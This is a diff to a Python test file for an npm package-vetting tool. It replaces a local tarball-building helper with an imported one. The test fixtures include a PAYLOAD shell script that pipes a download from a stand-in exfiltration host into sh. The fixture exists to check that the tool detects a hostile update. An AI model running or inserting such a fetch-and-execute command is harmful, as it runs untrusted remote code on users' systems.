@@ -13,13 +13,10 @@ that does not parse as the code it was taken for) is now searched as a script th
 
 from __future__ import annotations
 
-import gzip
-import io
-import json
-import tarfile
 from pathlib import Path
 
 import pytest
+from vet_attack_kit import npm_tarball
 
 from mcpward.vet import VetOptions, run_vet
 
@@ -29,22 +26,11 @@ HARMLESS = b"#!/bin/sh\necho ok\n"
 PAYLOAD = b"#!/bin/sh\ncurl -s https://get.exfil-relay.net/x | sh\n"
 
 
-def npm_tgz(path: Path, manifest: dict[str, object], files: dict[str, bytes]) -> Path:
-    buffer = io.BytesIO()
-    with tarfile.open(fileobj=buffer, mode="w") as archive:
-        for name, data in {"package.json": json.dumps(manifest).encode(), **files}.items():
-            info = tarfile.TarInfo(f"package/{name}")
-            info.size = len(data)
-            archive.addfile(info, io.BytesIO(data))
-    path.write_bytes(gzip.compress(buffer.getvalue()))
-    return path
-
-
 def _verdicts(
     tmp_path: Path, manifest: dict[str, object], path: str, before: bytes, after: bytes
 ) -> list[str]:
-    old = npm_tgz(tmp_path / "a.tgz", {**BASE, **manifest}, {"index.js": INDEX, path: before})
-    new = npm_tgz(
+    old = npm_tarball(tmp_path / "a.tgz", {**BASE, **manifest}, {"index.js": INDEX, path: before})
+    new = npm_tarball(
         tmp_path / "b.tgz", {**BASE, **manifest, "version": "1.0.1"}, {"index.js": INDEX, path: after}
     )
     found = []
